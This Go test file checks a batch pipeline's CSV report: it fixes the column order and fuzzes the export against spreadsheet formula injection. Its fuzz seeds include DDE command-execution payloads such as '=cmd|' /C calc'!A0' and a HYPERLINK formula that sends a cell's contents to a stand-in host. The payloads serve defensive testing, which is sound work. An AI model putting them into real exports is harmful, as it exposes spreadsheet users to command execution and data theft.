package pipeline_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/wanbatch/wanbatch/pipeline"
)

// The header is a contract: whoever reads the table by position may. A column that
// is added goes to the end of this list.
func TestCSVColumnsNeverMove(t *testing.T) {
	const want = "batch,currency,id,key,state,mode,lane,image,video," +
		"task_id,request_id,submitted_at,scheduled_at,ended_at,stored_at,queue_seconds,run_seconds," +
		"usage.video_duration,usage.video_ratio,unit_price,estimated,billed," +
		"file.path,file.bytes,file.sha256,file.duration,attempts," +
		"error.code,error.message,error.hint,error.charged,reused_from,file.url," +
		"label:campaign,label:client"
	labels := map[string]string{"client": "acme", "campaign": "spring"}
	rows := table(t, &pipeline.Report{Jobs: []pipeline.Result{{Labels: labels}}})
	if got := strings.Join(rows[0], ","); got != want {
		t.Errorf("columns\n%s, want\n%s", got, want)
	}
	if len(rows) != 2 || len(rows[1]) != len(rows[0]) {
		t.Errorf("rows %q", rows)
	}
}

func table(t *testing.T, r *pipeline.Report) [][]string {
	t.Helper()
	var b bytes.Buffer
	if err := r.CSV(&b); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// Signs that begin a formula, as OWASP lists them (CSV Injection, 2025), and where a
// spreadsheet might see the beginning of a cell if its separator is not the comma.
const (
	formula      = "=+-@＝＋－＠"
	formulaStart = formula + "\t\r\n\x00"
	separators   = ",;|\t\r\n\""
)

// FuzzCSV puts a text wherever a stranger's words go, and looks for a formula in
// the cells, and wherever any separator cuts the file.
func FuzzCSV(f *testing.F) {
	for _, seed := range []string{
		"=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", `=HYPERLINK("http://x/?"&A1,"y")`,
		"\t=1", "\r=1", "\n=1", "\x00=1", "＝1+1", "＋1", "－1", "＠SUM(1)",
		"a,=1", "a;=1", "a|=1", "a\t=1", "a\r\n=1", `a"=1`, `a",=1`, `";=1+1;"`, "a; =1", "  =1", "'=1", `""=1`,
		"plain", "", "é", "\xff=1", "a=1", "two-part", "x@example.com",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, hostile string) {
		name := "L" + hostile
		r := &pipeline.Report{Batch: hostile, Jobs: []pipeline.Result{{
			ID: hostile, Image: hostile, Video: hostile, RequestID: &hostile, Usage: &pipeline.Usage{VideoRatio: hostile},
			File: &pipeline.File{Path: hostile}, Error: &pipeline.Failure{Code: hostile, Message: hostile, Hint: hostile},
			Labels: map[string]string{name: hostile},
		}}}
		var b bytes.Buffer
		if err := r.CSV(&b); err != nil {
			t.Fatal(err)
		}
		wantNoFormula(t, b.String())
		rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("rows %q: %v", rows, err)
		}
		for i, column := range rows[0] {
			if column == "id" && utf8.ValidString(hostile) && bare(rows[1][i]) != bare(hostile) {
				t.Errorf("%q became %q", hostile, rows[1][i])
			}
		}
	})
}

// bare is a text without what the table may add to it and what any reader of CSV
// makes of line ends.
func bare(s string) string {
	return strings.ReplaceAll(strings.ReplaceAll(s, "'", ""), "\r\n", "\n")
}

// wantNoFormula looks for a formula in CSV as every spreadsheet might read it.
func wantNoFormula(t *testing.T, text string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if first, _ := utf8.DecodeRuneInString(cell); cell != "" && strings.ContainsRune(formulaStart, first) {
				t.Errorf("cell %q", cell)
			}
		}
	}
	for _, piece := range strings.FieldsFunc(text, func(r rune) bool { return strings.ContainsRune(separators, r) }) {
		if first, _ := utf8.DecodeRuneInString(strings.TrimLeft(piece, " ")); piece != "" && strings.ContainsRune(formula, first) {
			t.Errorf("piece %q of\n%s", piece, text)
		}
	}
}
